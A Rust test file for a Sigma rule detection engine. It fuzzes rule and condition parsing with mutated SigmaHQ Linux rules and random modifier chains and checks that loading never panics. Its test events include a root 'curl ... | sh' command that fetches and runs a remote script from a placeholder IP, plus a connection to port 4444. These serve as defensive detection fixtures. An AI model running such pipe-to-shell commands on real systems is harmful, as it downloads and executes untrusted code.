//! The rule and condition parsers never panic, whatever they are given: seeded random
//! mutations of every SigmaHQ Linux rule, random conditions over a rule's selections, and
//! random modifier chains, each loaded and (when it compiles) evaluated on a few events. A
//! bad rule must come back as a reported problem, never a crash. The `fuzz/` targets
//! (cargo-fuzz, see docs/DETECTION.md) search the same space coverage-guided; this test keeps
//! a deterministic slice of it in CI.

mod common;

use std::path::{Path, PathBuf};

use common::{Rng, connection, launch};
use vigil_detect::{RuleSet, RuleStatus};
use vigil_ocsf::Event;
use vigil_ocsf::fieldmap::FieldMaps;

const CORPUS: &str = concat!(
    env!("CARGO_MANIFEST_DIR"),
    "/../../../shared/sigma/rules/linux"
);

fn yaml_files(dir: &Path, out: &mut Vec<PathBuf>) {
    let Ok(entries) = std::fs::read_dir(dir) else {
        return;
    };
    for e in entries.flatten() {
        let p = e.path();
        if p.is_dir() {
            yaml_files(&p, out);
        } else if p.extension().is_some_and(|x| x == "yml" || x == "yaml") {
            out.push(p);
        }
    }
}

fn events() -> Vec<Event> {
    vec![
        launch(
            "/usr/bin/curl",
            "curl -s http://203.0.113.9/x.sh | sh",
            ("/bin/bash", "bash"),
            "root",
            1,
        ),
        launch("/usr/bin/ls", "ls -la /tmp", ("/bin/sh", "sh"), "alice", 2),
        connection(("10.0.0.5", 41000), ("203.0.113.9", 4444), false, 3),
    ]
}

/// Loads `text` as a rule file and evaluates whatever compiled; panics surface as test failures.
fn exercise(text: &str, maps: &FieldMaps, events: &[Event]) -> usize {
    let (set, report) = RuleSet::load_str(text, Path::new("fuzzed.yml"), maps);
    for ev in events {
        let _ = set.matches_all(ev).count();
    }
    report
        .rules
        .iter()
        .filter(|r| matches!(r.status, RuleStatus::Loaded))
        .count()
}

fn mutate(rng: &mut Rng, text: &str) -> String {
    const TOKENS: &[&str] = &[
        "|",
        "|re",
        "|contains|all",
        "|base64offset",
        "|windash",
        "|cidr",
        "|expand",
        "|exists",
        "|fieldref",
        "|gte",
        "*",
        "?",
        "\\",
        "'",
        "\"",
        ":",
        "-",
        "\n",
        "  ",
        "{",
        "}",
        "[",
        "]",
        "null",
        "1 of",
        "all of",
        "them",
        "not",
        "(",
        ")",
        "and",
        "or",
        "|neq",
        "|cased",
        "|utf16le|base64",
        "0x",
        "99999999999999999999",
        "\u{0}",
        "é",
        "%placeholder%",
    ];
    let mut s = text.to_owned();
    for _ in 0..1 + rng.below(4) {
        if s.is_empty() {
            let token = rng.pick::<&str>(TOKENS);
            s.push_str(token);
            continue;
        }
        let mut at = rng.below(s.len());
        while !s.is_char_boundary(at) {
            at -= 1;
        }
        match rng.below(4) {
            0 => {
                let token = rng.pick::<&str>(TOKENS);
                s.insert_str(at, token);
            }
            1 => {
                let mut end = (at + 1 + rng.below(16)).min(s.len());
                while !s.is_char_boundary(end) {
                    end += 1;
                }
                s.replace_range(at..end, "");
            }
            2 => {
                let mut end = (at + 1 + rng.below(40)).min(s.len());
                while !s.is_char_boundary(end) {
                    end += 1;
                }
                let piece = s[at..end].to_owned();
                s.insert_str(at, &piece);
            }
            _ => s.truncate(at),
        }
    }
    s
}

#[test]
fn mutated_corpus_rules_never_panic() {
    let maps = FieldMaps::builtin().unwrap();
    let mut files = Vec::new();
    yaml_files(Path::new(CORPUS), &mut files);
    files.sort();
    assert!(files.len() > 100, "the SigmaHQ corpus at {CORPUS}");
    let events = events();
    let mut rng = Rng::new(0x5eed);
    let mut loaded = 0;
    for file in &files {
        let text = std::fs::read_to_string(file).unwrap();
        for _ in 0..12 {
            loaded += exercise(&mutate(&mut rng, &text), &maps, &events);
        }
    }
    // Many mutations keep the rule valid, so evaluation really ran on compiled rules.
    assert!(loaded > files.len(), "only {loaded} mutated rules compiled");
}

#[test]
fn random_conditions_and_modifier_chains_never_panic() {
    const WORDS: &[&str] = &[
        "sel", "sel_a", "sel_b", "filter", "sel*", "filter_*", "them", "1 of", "all of", "any of",
        "and", "or", "not", "(", ")", "((", "))", "|", "near", "count()", ">", "5", "", " ",
    ];
    const MODS: &[&str] = &[
        "contains",
        "startswith",
        "endswith",
        "all",
        "re",
        "i",
        "m",
        "s",
        "cidr",
        "base64",
        "base64offset",
        "windash",
        "exists",
        "cased",
        "fieldref",
        "lt",
        "lte",
        "gt",
        "gte",
        "neq",
        "utf16le",
        "utf16be",
        "wide",
        "expand",
        "bogus",
        "",
    ];
    const VALUES: &[&str] = &[
        "'/bin/sh'",
        "'*curl*'",
        "'a?c'",
        "'\\\\*'",
        "'(unclosed'",
        "'[a-'",
        "'10.0.0.0/8'",
        "'10.0.0.0/99'",
        "5",
        "-1",
        "null",
        "true",
        "''",
        "'%ProgramFiles%'",
        "'Image'",
        "['a', 'b']",
        "[]",
        "{x: 1}",
    ];
    let maps = FieldMaps::builtin().unwrap();
    let events = events();
    let mut rng = Rng::new(42);
    let mut loaded = 0;
    for _ in 0..3000 {
        // Half well-formed conditions (so the value and modifier chains get compiled and
        // evaluated), half random word salad (so the condition parser meets garbage).
        const GOOD: &[&str] = &[
            "sel",
            "sel and not filter",
            "1 of sel*",
            "all of sel_*",
            "all of them",
            "(sel or sel_a) and not filter",
            "sel_b",
            "not sel",
            "1 of them and not 1 of filter*",
        ];
        let condition: Vec<&str> = if rng.chance(50) {
            vec![*rng.pick(GOOD)]
        } else {
            (0..1 + rng.below(7)).map(|_| *rng.pick(WORDS)).collect()
        };
        let chain: Vec<&str> = (0..rng.below(4)).map(|_| *rng.pick(MODS)).collect();
        let field = if chain.is_empty() {
            "CommandLine".to_owned()
        } else {
            format!("CommandLine|{}", chain.join("|"))
        };
        let rule = format!(
            "title: fuzz\nid: 00000000-0000-4000-8000-000000000001\n\
             logsource: {{category: process_creation, product: linux}}\n\
             detection:\n  sel:\n    {field}: {v1}\n  sel_a:\n    Image|endswith: {v2}\n  \
             sel_b:\n    - {v3}\n  filter:\n    User: {v4}\n  condition: {cond}\nlevel: low\n",
            v1 = rng.pick(VALUES),
            v2 = rng.pick(VALUES),
            v3 = rng.pick(VALUES),
            v4 = rng.pick(VALUES),
            cond = serde_json::to_string(&condition.join(" ")).unwrap(),
        );
        loaded += exercise(&rule, &maps, &events);
    }
    assert!(loaded > 300, "only {loaded} random rules compiled");
}
